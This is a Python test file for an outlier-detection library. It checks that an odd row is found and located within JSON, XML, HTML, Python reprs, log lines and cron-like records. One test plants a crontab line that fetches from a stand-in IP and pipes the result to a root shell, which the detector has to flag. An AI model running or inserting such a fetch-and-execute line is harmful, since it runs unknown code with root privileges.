"""Rows that stand in a text: JSON behind words, in a fence, cut off; markup; pieces of one line.

What stands apart is found, and the characters that are told read back the entry.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from typing import Any

import pytest

from castore.overview.markup import markup_rows
from castore.overview.overview import overview
from castore.overview.pieces import piece_rows
from castore.overview.wrapped import wrapped_rows

FACT = "the blue heron left"
ODD = 41


def rows(count: int = 120) -> list[dict[str, Any]]:
    rng = random.Random(count)
    return [
        {"host": f"web-{at % 40}", "cpu": rng.randrange(1, 90), "state": "up", "note": None, "ok": True}
        for at in range(count)
    ]


def odd_rows(count: int = 120) -> list[dict[str, Any]]:
    made = rows(count)
    made[ODD] |= {"state": "down", "note": FACT}
    return made


def _element(row: dict[str, Any]) -> str:
    note = row["note"] or ""
    inner = f"<state>{row['state']}</state><note>{note}</note>"
    return f'<host name="{row["host"]}" cpu="{row["cpu"]}">{inner}</host>'


def _cells(row: dict[str, Any]) -> str:
    return (
        "<tr>" + "".join(f"<td>{row[name] or ''}</td>" for name in ("host", "cpu", "state", "note")) + "</tr>"
    )


WRAPPED: dict[str, Callable[[list[dict[str, Any]]], str]] = {
    "a line before": lambda rows: f"Found {len(rows)} hosts:\n{json.dumps(rows)}",
    "a line before, indented": lambda rows: f"Found {len(rows)} hosts:\n{json.dumps(rows, indent=2)}",
    "a fence": lambda rows: f"Here they are:\n```json\n{json.dumps(rows)}\n```\nAnything else?",
    "a fence, nested": lambda rows: (
        f"```json\n{json.dumps({'ok': True, 'data': {'hosts': rows}}, indent=2)}\n```"
    ),
    "an assignment": lambda rows: f"window.ROWS={json.dumps(rows)};",
    "a call": lambda rows: f"callback({json.dumps(rows)})",
    "cut off": lambda rows: json.dumps(rows)[:-30],
    "cut off, and said": lambda rows: json.dumps({"data": {"hosts": rows}})[:-90] + "\n[90 characters cut]",
    "a mark of byte order": lambda rows: "\ufeff" + json.dumps(rows),
    "one after another": lambda rows: "".join(map(json.dumps, rows)),
    "one after another, indented": lambda rows: "\n".join(json.dumps(row, indent=1) for row in rows),
    "as Python prints it": lambda rows: f"Result: {rows!r}",
    "as Python prints it, cut off": lambda rows: repr(rows)[:-40],
    "tuples": lambda rows: repr([tuple(row.values()) for row in rows]),
    "elements": lambda rows: f'<?xml version="1.0"?><hosts>{"".join(map(_element, rows))}</hosts>',
    "elements, indented": lambda rows: (
        "<hosts>\n" + "\n".join(map(_element, rows)).replace("<state>", "\n    <state>") + "\n</hosts>\n"
    ),
    "a table": lambda rows: (
        f"<!doctype html><html><body><table>{''.join(map(_cells, rows))}</table></body></html>"
    ),
}


class TestRowsInTexts:
    @pytest.mark.parametrize("wrapped", WRAPPED)
    def test_the_odd_one_comes_first_and_is_read_back(self, wrapped: str) -> None:
        text = WRAPPED[wrapped](odd_rows())
        first = overview(text.encode()).outliers[0]
        assert first.place.chars is not None
        entry = text[slice(*first.place.chars)]
        assert FACT in entry
        assert entry[0] + entry[-1] in ("{}", "()", "<>")
        assert FACT in first.excerpt

    @pytest.mark.parametrize("wrapped", WRAPPED)
    def test_rows_that_are_alike_have_none(self, wrapped: str) -> None:
        assert overview(WRAPPED[wrapped](rows()).encode()).outliers == ()

    @pytest.mark.parametrize("wrapped", ["a line before", "elements"])
    def test_in_a_string_the_characters_are_those_of_what_it_says(self, wrapped: str) -> None:
        text = "\U0001f600 é\n" + WRAPPED[wrapped](odd_rows())
        first = overview(json.dumps({"content": text}).encode()).outliers[0]
        assert first.place.selects == ("$.content",)
        assert first.place.chars is not None
        assert FACT in text[slice(*first.place.chars)]

    def test_lines_of_json_have_lines(self) -> None:
        text = "\n".join(map(json.dumps, odd_rows()))
        assert overview(text.encode()).outliers[0].place.lines == (ODD, ODD + 1)

    def test_what_stands_between_two_rows_is_an_entry(self) -> None:
        text = WRAPPED["elements"](rows()).replace("</host><host", f"</host><!-- {FACT} --><host", 1)
        first = overview(text.encode()).outliers[0]
        assert first.place.chars is not None
        assert text[slice(*first.place.chars)] == f"<!-- {FACT} -->"

    @pytest.mark.parametrize(
        "text",
        [
            "\n".join(f"<alice> [12:0{at % 10}] well, {{so}} it goes" for at in range(60)),
            "\n".join(f"2026-05-01 INFO [main] call({at}) {{}} done" for at in range(60)),
            "#include <vector>\n" + "std::vector<int> f(std::map<int, int> m) { return {}; }\n" * 40,
        ],
    )
    def test_brackets_in_lines_are_no_rows(self, text: str) -> None:
        assert wrapped_rows(text) is None
        assert markup_rows(text) is None


class TestPieces:
    def test_of_sentences_in_one_line(self) -> None:
        rng = random.Random(3)
        said = [
            f"The {rng.choice(['red', 'old'])} boat moved {rng.randrange(90)} parcels." for _ in range(60)
        ]
        said[ODD] = f"At night {FACT} for good!"
        text = " ".join(said)
        first = overview(text.encode()).outliers[0]
        assert first.place.chars is not None
        assert text[slice(*first.place.chars)] == said[ODD]

    @pytest.mark.parametrize("separator", [",", ", ", " ", ";", "\t"])
    def test_of_numbers_in_one_line(self, separator: str) -> None:
        rng = random.Random(3)
        numbers = [rng.randrange(1000, 2000) for _ in range(200)]
        numbers[ODD] = -77777
        text = separator.join(map(str, numbers)) + "\n"
        first = overview(text.encode()).outliers[0]
        assert first.place.chars is not None
        assert text[slice(*first.place.chars)] == "-77777"

    def test_a_short_text_has_none(self) -> None:
        assert overview(b"One, two. Three, four. Five!").outliers == ()
        assert piece_rows("word " * 400) is None


class TestBounded:
    """Work grows with the text, whatever it holds: what is counted is decoding, not time."""

    @pytest.mark.parametrize(
        "text",
        [
            '["' * 3_000,
            "[" * 20_000,
            '{"a":' * 5_000,
            '{"a":[' * 5_000,
            "[1," * 10_000,
            '[{"a":"' + "x" * 20_000,
            "<a" * 10_000,
            "<!--" * 10_000,
            "<a>" * 10_000,
            "<a b='" * 5_000,
            "[('" * 5_000,
            "[{'a': " * 5_000,
            "[('a', 1), " * 3_000,
            "a." * 10_000,
            ", " * 10_000,
        ],
    )
    def test_hostile_texts_are_looked_at(self, text: str) -> None:
        assert overview(text.encode()).size == len(text)
        assert overview(json.dumps({"content": text}).encode()).kind == "object"


def _told(lines: list[str]) -> Any:
    return overview("\n".join(lines).encode())


class TestLines:
    """What is rows only in a part of each line, or in several lines."""

    def test_json_at_the_end_is_a_row(self) -> None:
        lines = [
            f"2026-05-01T06:{at // 60:02d}:{at % 60:02d}Z INFO row {json.dumps(row)}"
            for at, row in enumerate(odd_rows())
        ]
        first = _told(lines).outliers[0]
        assert (first.place.lines, first.reasons[0]) == ((ODD, ODD + 1), "state 'down'")

    @pytest.mark.parametrize("tail", ["load=1 mem=2%", 'row {"load": 1}', "seen"])
    def test_a_gap_between_moments(self, tail: str) -> None:
        late = [at + 300 * (at >= ODD) for at in range(200)]
        lines = [f"2026-05-01 {at // 60:02d}:{at % 60:02d}:00 heartbeat {tail}" for at in late]
        (first,) = _told(lines).outliers
        assert first.place.lines == (ODD, ODD + 1)
        assert "after a gap" in first.reasons[0]

    def test_a_first_word_before_free_text(self) -> None:
        rng = random.Random(5)
        words = ["plain", "quick", "worker", "module", "of", "the", "parcel", "desk"]
        told = [" ".join(rng.choices(words, k=rng.randrange(3, 9))) for _ in range(300)]
        lines = [
            f"ii  lib{rng.choice(words)}-{at}  1.{at % 9}-2  amd64  {text}" for at, text in enumerate(told)
        ]
        assert _told(lines).outliers == ()
        lines[ODD] = "iU" + lines[ODD][2:]
        (first,) = _told(lines).outliers
        assert first.place.lines == (ODD, ODD + 1)

    def test_records_of_two_lines(self) -> None:
        rng = random.Random(6)
        words = ["boat", "parcel", "desk", "heron", "harbor"]
        lines = []
        for _ in range(100):
            lines += [
                f"# {' '.join(rng.choices(words, k=4))}",
                f"{rng.randrange(60)} 4 * * app /opt/{rng.choice(words)}.sh",
            ]
        assert _told(lines).outliers == ()
        lines[2 * ODD + 1] = "* * * * * root fetch 203.0.113.66/q | sh"
        first = _told(lines).outliers[0]
        assert first.place.lines == (2 * ODD, 2 * ODD + 2)

    @pytest.mark.parametrize(("characters", "odd"), [("....#", "X"), ("ACGT", "N"), ("-=~", "x")])
    def test_a_character_that_none_else_has(self, characters: str, odd: str) -> None:
        rng = random.Random(7)
        lines = ["".join(rng.choices(characters, k=70)) for _ in range(120)]
        assert _told(lines).outliers == ()
        lines[ODD] = lines[ODD][:30] + odd + lines[ODD][31:]
        (first,) = _told(lines).outliers
        assert (first.place.lines, first.reasons[0]) == ((ODD, ODD + 1), f"odd '{odd}'")


class TestNamesAndLanguage:
    """What looks like alarm, or is new, only because names and languages are like that."""

    @pytest.mark.parametrize(
        "name", ["Payload/App.app/Info.plist", "#include <linux/err.h>", "lib/error/reset.py"]
    )
    def test_names_of_files_are_no_alarm(self, name: str) -> None:
        rng = random.Random(8)
        words = ["boat", "parcel", "desk", "heron", "harbor", "infos", "erred"]
        form = name.replace("Info", "{}").replace("err.", "{}.").replace("reset", "{}")
        lines = [form.format(rng.choice(words)) for _ in range(200)]
        lines[ODD] = name
        reasons = [reason for each in _told(lines).outliers for reason in each.reasons]
        assert not {"INFO", "err", "ERR", "level INFO", "reset", "error"} & set(reasons)

    def test_source_has_no_new_words(self) -> None:
        from castore.overview import pools

        with open(pools.__file__, encoding="utf-8") as source:
            found = overview(source.read().encode())
        assert not any("new words" in each.reasons for each in found.outliers)
